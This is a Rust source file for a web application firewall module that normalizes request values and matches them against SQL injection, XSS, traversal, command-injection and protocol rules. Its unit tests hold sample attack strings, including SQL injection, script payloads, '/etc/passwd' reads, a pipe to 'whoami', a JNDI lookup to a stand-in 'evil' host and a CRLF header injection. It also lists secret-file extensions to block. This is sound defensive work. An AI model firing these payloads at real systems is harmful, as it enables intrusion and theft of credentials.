//! `waf`: signature rules against SQL injection, XSS, path traversal and
//! file inclusion, command and code injection, and protocol anomalies
//! (SPEC section 3), at paranoia levels 1–4.
//!
//! Every inspected value (the path, each query parameter's name and value,
//! header values and cookies, the body: form fields, JSON strings and keys,
//! or its raw text) is normalized once: percent-decoded (three rounds, for
//! double encodings; `%uXXXX` too), HTML-entity-decoded, lowercased, NULs
//! dropped, SQL comments and whitespace runs folded to one space. The
//! selected rules are compiled into one `RegexSet` per config, so a value
//! is matched against all of them in one pass.
//!
//! `block` answers 403 `waf-blocked` naming the rule, never the payload;
//! `detect` logs and counts. `exclude` turns a rule (or a whole family) off,
//! everywhere or under a path prefix.

mod rules;

use std::borrow::Cow;

#[cfg(test)]
use bytes::Bytes;
use http::request;
use regex::RegexSet;

use crate::body::RequestBody;
use crate::config::{WafConfig, WafInspect, WafMode, WafRuleFamily};
use crate::error::GatewayError;
use crate::plugins::RequestCtx;
use rules::protocol;

/// Bodies larger than this are not inspected; in `block` mode they are
/// refused (413), so nothing passes unseen.
pub const MAX_INSPECTED_BODY: u64 = 128 * 1024;

/// Body types never inspected (binary).
const BINARY_TYPES: &[&str] = &[
    "application/octet-stream",
    "application/zip",
    "application/gzip",
    "application/pdf",
    "application/grpc",
    "application/protobuf",
    "application/x-protobuf",
];

/// Body types `proto-301` allows (paranoia 2).
const USUAL_TYPES: &[&str] = &[
    "application/x-www-form-urlencoded",
    "multipart/form-data",
    "multipart/related",
    "text/xml",
    "application/xml",
    "application/soap+xml",
    "application/json",
    "text/plain",
];

/// Extensions `proto-202` refuses in the path.
const RESTRICTED_EXTENSIONS: &[&str] = &[
    ".bak",
    ".backup",
    ".old",
    ".orig",
    ".save",
    ".swp",
    ".tmp",
    ".sql",
    ".sqlite",
    ".db",
    ".mdb",
    ".ini",
    ".cfg",
    ".conf",
    ".config",
    ".env",
    ".log",
    ".pem",
    ".key",
    ".crt",
    ".p12",
    ".pfx",
    ".htaccess",
    ".htpasswd",
    ".git",
    ".svn",
    ".hg",
    ".dist",
    ".inc",
    ".cs",
    ".csproj",
    ".vb",
    ".resx",
    ".mdf",
    ".ldf",
    ".dll",
    ".lock",
];

struct Exclusion {
    /// A rule id, or a family name (all its rules).
    rule: String,
    path: Option<String>,
}

pub struct Waf {
    set: RegexSet,
    /// The rule id of each pattern in `set`.
    ids: Vec<&'static str>,
    paranoia: u8,
    protocol: bool,
    inspect: [bool; 4],
    block: bool,
    exclusions: Vec<Exclusion>,
}

/// A rule that matched, and where.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Hit {
    pub rule: &'static str,
    pub location: &'static str,
}

fn family_of(id: &str) -> &'static str {
    match id.split('-').next() {
        Some("sqli") => "sqli",
        Some("xss") => "xss",
        Some("lfi") => "path_traversal",
        Some("rce") => "command_injection",
        _ => "protocol",
    }
}

impl Waf {
    /// Errors name the field under `waf`.
    pub fn new(cfg: &WafConfig) -> Result<Waf, (String, String)> {
        if !(1..=4).contains(&cfg.paranoia) {
            return Err(("paranoia".into(), "must be 1, 2, 3 or 4".into()));
        }
        let families: Vec<WafRuleFamily> = if cfg.rules.is_empty() {
            vec![
                WafRuleFamily::Sqli,
                WafRuleFamily::Xss,
                WafRuleFamily::PathTraversal,
                WafRuleFamily::CommandInjection,
                WafRuleFamily::Protocol,
            ]
        } else {
            cfg.rules.clone()
        };
        let mut exclusions = Vec::new();
        for (i, e) in cfg.exclude.iter().enumerate() {
            let known = rules::RULES.iter().any(|r| r.id == e.rule)
                || [
                    protocol::BAD_ENCODING,
                    protocol::NUL,
                    protocol::RESTRICTED_EXTENSION,
                    protocol::BODY_WITHOUT_TYPE,
                    protocol::CRLF,
                    protocol::CONTROL_CHARS,
                    protocol::CONTENT_TYPE,
                    protocol::HOST_IS_IP,
                ]
                .contains(&e.rule.as_str())
                || ["sqli", "xss", "path_traversal", "command_injection", "protocol"]
                    .contains(&e.rule.as_str());
            if !known {
                return Err((
                    format!("exclude[{i}].rule"),
                    format!("`{}` is not a WAF rule id or family", e.rule),
                ));
            }
            if e.path.as_deref().is_some_and(|p| !p.starts_with('/')) {
                return Err((format!("exclude[{i}].path"), "must start with `/`".into()));
            }
            exclusions.push(Exclusion {
                rule: e.rule.clone(),
                path: e.path.clone(),
            });
        }
        // Rules excluded everywhere are left out of the set.
        let everywhere = |id: &str| {
            exclusions
                .iter()
                .any(|e| e.path.is_none() && (e.rule == id || e.rule == family_of(id)))
        };
        let chosen: Vec<&rules::Rule> = rules::RULES
            .iter()
            .filter(|r| families.contains(&r.family) && r.paranoia <= cfg.paranoia && !everywhere(r.id))
            .collect();
        let set = regex::RegexSetBuilder::new(chosen.iter().map(|r| r.pattern))
            .size_limit(64 << 20)
            .build()
            .map_err(|e| ("rules".to_string(), format!("cannot compile the signatures: {e}")))?;
        let inspect = if cfg.inspect.is_empty() {
            [true; 4]
        } else {
            [
                WafInspect::Path,
                WafInspect::Query,
                WafInspect::Headers,
                WafInspect::Body,
            ]
            .map(|w| cfg.inspect.contains(&w))
        };
        Ok(Waf {
            set,
            ids: chosen.iter().map(|r| r.id).collect(),
            paranoia: cfg.paranoia,
            protocol: families.contains(&WafRuleFamily::Protocol),
            inspect,
            block: cfg.mode == WafMode::Block,
            exclusions,
        })
    }

    fn excluded(&self, id: &str, path: &str) -> bool {
        self.exclusions.iter().any(|e| {
            (e.rule == id || e.rule == family_of(id)) && e.path.as_deref().is_none_or(|p| path.starts_with(p))
        })
    }

    /// The request phase: block (403) or log what matches.
    pub async fn check(
        &self,
        ctx: &RequestCtx<'_>,
        req: &request::Parts,
        body: &mut RequestBody,
    ) -> Result<Option<Hit>, GatewayError> {
        let hit = self.inspect(req, body).await?;
        let Some(hit) = hit else { return Ok(None) };
        if self.block {
            tracing::info!(
                request_id = crate::telemetry::id_text(&ctx.request_id),
                route = ctx.route,
                rule = hit.rule,
                location = hit.location,
                "WAF blocked a request"
            );
            return Err(GatewayError::WafBlocked { rule: hit.rule });
        }
        tracing::warn!(
            request_id = crate::telemetry::id_text(&ctx.request_id),
            route = ctx.route,
            rule = hit.rule,
            location = hit.location,
            "WAF detected a match (detect mode: let through)"
        );
        Ok(Some(hit))
    }

    /// The first rule that matches the request, in the order path, query,
    /// headers, body.
    pub async fn inspect(
        &self,
        req: &request::Parts,
        body: &mut RequestBody,
    ) -> Result<Option<Hit>, GatewayError> {
        let path = req.uri.path();
        let mut scan = Scan {
            waf: self,
            path,
            hit: None,
        };
        let [want_path, want_query, want_headers, want_body] = self.inspect;
        if self.protocol {
            self.protocol_head(req, &mut scan);
        }
        if want_path && scan.hit.is_none() {
            scan.value("path", path.as_bytes(), false);
        }
        if want_query
            && scan.hit.is_none()
            && let Some(q) = req.uri.query()
        {
            scan.form(q.as_bytes(), "query");
        }
        if want_headers && scan.hit.is_none() {
            for (name, value) in &req.headers {
                if scan.hit.is_some() {
                    break;
                }
                if name == http::header::COOKIE {
                    for pair in value.as_bytes().split(|&b| b == b';') {
                        scan.pair(pair, "cookie");
                    }
                } else if !SKIPPED_HEADERS.contains(name) {
                    scan.value("header", value.as_bytes(), false);
                }
            }
        }
        if want_body && scan.hit.is_none() {
            self.inspect_body(req, body, &mut scan).await?;
        }
        Ok(scan.hit)
    }

    fn protocol_head(&self, req: &request::Parts, scan: &mut Scan<'_>) {
        let target = req.uri.path_and_query().map_or("", |p| p.as_str()).as_bytes();
        if bad_percent_encoding(target) {
            scan.found(protocol::BAD_ENCODING, "path");
            return;
        }
        let path = req.uri.path().to_ascii_lowercase();
        let last = path.rsplit('/').next().unwrap_or("");
        if RESTRICTED_EXTENSIONS
            .iter()
            .any(|ext| last.ends_with(ext) || last == &ext[1..])
        {
            scan.found(protocol::RESTRICTED_EXTENSION, "path");
            return;
        }
        if self.paranoia >= 2
            && let Some(host) = req.headers.get(http::header::HOST).and_then(|h| h.to_str().ok())
        {
            let bare = host.rsplit_once(':').map_or(host, |(h, p)| {
                if p.bytes().all(|b| b.is_ascii_digit()) {
                    h
                } else {
                    host
                }
            });
            if bare.trim_matches(['[', ']']).parse::<std::net::IpAddr>().is_ok() {
                scan.found(protocol::HOST_IS_IP, "header");
            }
        }
    }

    async fn inspect_body(
        &self,
        req: &request::Parts,
        body: &mut RequestBody,
        scan: &mut Scan<'_>,
    ) -> Result<(), GatewayError> {
        use http_body::Body as _;
        let hint = body.size_hint();
        if hint.upper() == Some(0) {
            return Ok(());
        }
        let media_type = req
            .headers
            .get(http::header::CONTENT_TYPE)
            .and_then(|v| v.to_str().ok())
            .map(|v| v.split(';').next().unwrap_or("").trim().to_ascii_lowercase());
        if let Some(t) = &media_type
            && (BINARY_TYPES.contains(&t.as_str())
                || ["image/", "audio/", "video/", "font/"]
                    .iter()
                    .any(|p| t.starts_with(p)))
        {
            return Ok(());
        }
        if hint.lower() > MAX_INSPECTED_BODY {
            if self.block {
                return Err(GatewayError::PayloadTooLarge {
                    limit: MAX_INSPECTED_BODY,
                });
            }
            return Ok(());
        }
        let data = body.read_whole().await?;
        if data.is_empty() {
            return Ok(());
        }
        if self.protocol {
            match &media_type {
                None => {
                    scan.found(protocol::BODY_WITHOUT_TYPE, "body");
                    return Ok(());
                }
                Some(t)
                    if self.paranoia >= 2
                        && !USUAL_TYPES.contains(&t.as_str())
                        && !t.ends_with("+json")
                        && !t.ends_with("+xml") =>
                {
                    scan.found(protocol::CONTENT_TYPE, "body");
                    return Ok(());
                }
                _ => {}
            }
        }
        let inspected = if data.len() as u64 > MAX_INSPECTED_BODY {
            if self.block {
                return Err(GatewayError::PayloadTooLarge {
                    limit: MAX_INSPECTED_BODY,
                });
            }
            data.slice(..MAX_INSPECTED_BODY as usize)
        } else {
            data
        };
        match media_type.as_deref() {
            Some("application/x-www-form-urlencoded") => scan.form(&inspected, "body"),
            Some(t) if t == "application/json" || t.ends_with("+json") => {
                match serde_json::from_slice::<serde_json::Value>(&inspected) {
                    Ok(v) => scan.json(&v),
                    Err(_) => scan.value("body", &inspected, false),
                }
            }
            _ => scan.value("body", &inspected, false),
        }
        Ok(())
    }
}

/// Headers whose values are credentials or opaque tokens, not input an
/// attack would travel in towards the application.
static SKIPPED_HEADERS: [http::HeaderName; 5] = [
    http::header::AUTHORIZATION,
    http::header::CONTENT_LENGTH,
    http::header::HOST,
    http::HeaderName::from_static("traceparent"),
    http::HeaderName::from_static("x-request-id"),
];

/// One request's inspection: the first hit wins.
struct Scan<'w> {
    waf: &'w Waf,
    path: &'w str,
    hit: Option<Hit>,
}

impl Scan<'_> {
    fn found(&mut self, rule: &'static str, location: &'static str) {
        if self.hit.is_none() && !self.waf.excluded(rule, self.path) {
            self.hit = Some(Hit { rule, location });
        }
    }

    /// Matches one raw value (`plus`: `+` means a space, as in forms).
    fn value(&mut self, location: &'static str, raw: &[u8], plus: bool) {
        if self.hit.is_some() || raw.is_empty() {
            return;
        }
        let decoded = decode(raw, plus);
        if self.waf.protocol {
            if decoded.contains('\0') {
                return self.found(protocol::NUL, location);
            }
            if matches!(location, "query" | "header" | "cookie") && decoded.contains(['\r', '\n']) {
                return self.found(protocol::CRLF, location);
            }
            if self.waf.paranoia >= 2
                && decoded
                    .chars()
                    .any(|c| c.is_control() && !matches!(c, '\t' | '\r' | '\n'))
            {
                return self.found(protocol::CONTROL_CHARS, location);
            }
        }
        let text = fold(&decoded);
        for i in self.waf.set.matches(&text).iter() {
            let id = self.waf.ids[i];
            if !self.waf.excluded(id, self.path) {
                self.hit = Some(Hit { rule: id, location });
                return;
            }
        }
    }

    /// `name=value` pairs separated by `&` (or a cookie's `name=value`).
    fn form(&mut self, raw: &[u8], location: &'static str) {
        for pair in raw.split(|&b| b == b'&') {
            if self.hit.is_some() {
                return;
            }
            self.pair(pair, location);
        }
    }

    fn pair(&mut self, pair: &[u8], location: &'static str) {
        let pair = pair.trim_ascii();
        match pair.iter().position(|&b| b == b'=') {
            Some(i) => {
                self.value(location, &pair[..i], true);
                self.value(location, &pair[i + 1..], true);
            }
            None => self.value(location, pair, true),
        }
    }

    fn json(&mut self, v: &serde_json::Value) {
        if self.hit.is_some() {
            return;
        }
        match v {
            serde_json::Value::String(s) => self.value("body", s.as_bytes(), false),
            serde_json::Value::Array(items) => items.iter().for_each(|i| self.json(i)),
            serde_json::Value::Object(map) => {
                for (k, v) in map {
                    self.value("body", k.as_bytes(), false);
                    self.json(v);
                }
            }
            _ => {}
        }
    }
}

fn bad_percent_encoding(raw: &[u8]) -> bool {
    let mut i = 0;
    while i < raw.len() {
        if raw[i] == b'%' {
            let ok = raw.len() > i + 2 && raw[i + 1].is_ascii_hexdigit() && raw[i + 2].is_ascii_hexdigit();
            // `%uXXXX` is decoded too (IIS style): not an encoding error.
            let unicode = raw.len() > i + 5
                && matches!(raw[i + 1], b'u' | b'U')
                && raw[i + 2..i + 6].iter().all(u8::is_ascii_hexdigit);
            if !ok && !unicode {
                return true;
            }
        }
        i += 1;
    }
    false
}

/// Percent-decodes (three rounds at most, `%uXXXX` included) and decodes
/// HTML entities; invalid UTF-8 is replaced.
pub fn decode(raw: &[u8], plus: bool) -> String {
    let mut bytes: Cow<'_, [u8]> = Cow::Borrowed(raw);
    if plus && bytes.contains(&b'+') {
        bytes = Cow::Owned(bytes.iter().map(|&b| if b == b'+' { b' ' } else { b }).collect());
    }
    for _ in 0..3 {
        if !bytes.contains(&b'%') {
            break;
        }
        let next = percent_decode(&bytes);
        if next == *bytes {
            break;
        }
        bytes = Cow::Owned(next);
    }
    let mut text = String::from_utf8_lossy(&bytes).into_owned();
    // Twice: `&amp;lt;` hides `<` behind one more layer.
    for _ in 0..2 {
        if !text.contains('&') {
            break;
        }
        text = html_decode(&text);
    }
    text
}

fn percent_decode(raw: &[u8]) -> Vec<u8> {
    let hex = |b: u8| (b as char).to_digit(16).map(|d| d as u8);
    let mut out = Vec::with_capacity(raw.len());
    let mut i = 0;
    while i < raw.len() {
        if raw[i] == b'%' {
            if let (Some(h), Some(l)) = (
                raw.get(i + 1).and_then(|&b| hex(b)),
                raw.get(i + 2).and_then(|&b| hex(b)),
            ) {
                out.push(h << 4 | l);
                i += 3;
                continue;
            }
            if matches!(raw.get(i + 1), Some(b'u' | b'U'))
                && let Some(code) = raw
                    .get(i + 2..i + 6)
                    .and_then(|h| std::str::from_utf8(h).ok())
                    .and_then(|h| u32::from_str_radix(h, 16).ok())
            {
                let c = char::from_u32(code).unwrap_or('\u{fffd}');
                // Full-width forms (`%uff0e` for `.`) fold to ASCII.
                let c = match c {
                    '\u{ff01}'..='\u{ff5e}' => char::from_u32(code - 0xfee0).unwrap_or(c),
                    other => other,
                };
                let mut buf = [0; 4];
                out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
                i += 6;
                continue;
            }
        }
        out.push(raw[i]);
        i += 1;
    }
    out
}

fn html_decode(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        let end = rest[1..]
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '#'))
            .map_or(rest.len(), |e| e + 1);
        let entity = &rest[1..end];
        let decoded = match entity.to_ascii_lowercase().as_str() {
            "lt" => Some('<'),
            "gt" => Some('>'),
            "quot" => Some('"'),
            "apos" => Some('\''),
            "amp" => Some('&'),
            "nbsp" => Some(' '),
            "colon" => Some(':'),
            "sol" => Some('/'),
            "lpar" => Some('('),
            "rpar" => Some(')'),
            "tab" | "newline" => Some(' '),
            e if e.starts_with("#x") => u32::from_str_radix(&e[2..], 16).ok().and_then(char::from_u32),
            e if e.starts_with('#') => e[1..].parse().ok().and_then(char::from_u32),
            _ => None,
        };
        match decoded {
            Some(c) => {
                out.push(c);
                rest = &rest[end..];
                rest = rest.strip_prefix(';').unwrap_or(rest);
            }
            None => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// Lowercases, drops NULs and backslash escapes of quotes, and folds SQL
/// comments and whitespace runs to one space.
fn fold(text: &str) -> String {
    let lower = text.to_lowercase();
    let mut out = String::with_capacity(lower.len());
    let mut chars = lower.chars().peekable();
    let mut space = false;
    while let Some(c) = chars.next() {
        let c = match c {
            '/' if chars.peek() == Some(&'*') => {
                chars.next();
                // Inline comments, MySQL `/*! ... */` bodies kept as text.
                if chars.peek() == Some(&'!') {
                    chars.next();
                    while chars.peek().is_some_and(|c| c.is_ascii_digit()) {
                        chars.next();
                    }
                    ' '
                } else {
                    let mut prev = '\0';
                    for n in chars.by_ref() {
                        if prev == '*' && n == '/' {
                            break;
                        }
                        prev = n;
                    }
                    ' '
                }
            }
            '*' if chars.peek() == Some(&'/') => {
                chars.next();
                ' '
            }
            '\0' => continue,
            c if c.is_whitespace() || c == '\u{0b}' => ' ',
            c => c,
        };
        if c == ' ' {
            if !space {
                out.push(' ');
            }
            space = true;
        } else {
            out.push(c);
            space = false;
        }
    }
    out
}

/// Inspects a request whose body is already in memory.
#[cfg(test)]
async fn inspect_bytes(waf: &Waf, req: &request::Parts, body: Bytes) -> Result<Option<Hit>, GatewayError> {
    let mut body = RequestBody::full(body);
    waf.inspect(req, &mut body).await
}

#[cfg(test)]
mod tests {
    use super::*;

    fn waf(paranoia: u8) -> Waf {
        Waf::new(&WafConfig {
            rules: vec![],
            paranoia,
            inspect: vec![],
            mode: WafMode::Block,
            exclude: vec![],
        })
        .unwrap()
    }

    fn hit(w: &Waf, uri: &str) -> Option<&'static str> {
        let (parts, _) = http::Request::get(uri).body(()).unwrap().into_parts();
        let rt = tokio::runtime::Builder::new_current_thread().build().unwrap();
        rt.block_on(inspect_bytes(w, &parts, Bytes::new()))
            .unwrap()
            .map(|h| h.rule)
    }

    #[test]
    fn normalization() {
        assert_eq!(decode(b"%253Cscript%253E", false), "<script>");
        assert_eq!(decode(b"a+b%20c", true), "a b c");
        assert_eq!(decode(b"%u003cx%uff0e", false), "<x.");
        assert_eq!(
            decode(b"&lt;img src=x onerror=alert&#40;1&#x29;&gt;", false),
            "<img src=x onerror=alert(1)>"
        );
        assert_eq!(fold("UNION/**/SELECT\t\n1"), "union select 1");
        assert_eq!(fold("UN/*x*/ION /*!50000SELECT*/"), "un ion select ");
    }

    #[test]
    fn attacks_and_benign_values() {
        let w = waf(1);
        for (uri, rule) in [
            ("/get?id=1%27%20OR%20%271%27%3D%271", "sqli-100"),
            ("/get?id=1+UNION+ALL+SELECT+password+FROM+users", "sqli-102"),
            ("/get?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss-100"),
            (
                "/get?q=%26lt%3Bimg%20src%3Dx%20onerror%3Dalert(1)%26gt%3B",
                "xss-101",
            ),
            ("/get?file=../../etc/passwd", "lfi-100"),
            ("/get?cmd=x%3Bcat%20/etc/passwd", "lfi-101"),
            ("/get?cmd=1%7Cwhoami", "rce-100"),
            ("/get?x=${jndi:rmi://evil/a}", "rce-106"),
            ("/get?x=%zz", protocol::BAD_ENCODING),
            ("/backup.sql", protocol::RESTRICTED_EXTENSION),
            ("/get?x=a%0d%0aSet-Cookie:%20x=1", protocol::CRLF),
        ] {
            assert_eq!(hit(&w, uri), Some(rule), "{uri}");
        }
        for uri in [
            "/get?name=O%27Brien",
            "/get?name=D%27Angelo+and+Smith",
            "/get?next=https%3A%2F%2Fexample.com%2Fpath%3Fa%3D1",
            "/get?q=rock+%27n%27+roll",
            "/get?q=select+a+plan&sort=price",
            "/get?email=ann%40example.com&tags=a,b",
            "/get?q=1+%2B+1+%3D+2",
            "/users/42/orders",
        ] {
            assert_eq!(hit(&w, uri), None, "{uri}");
        }
    }
}
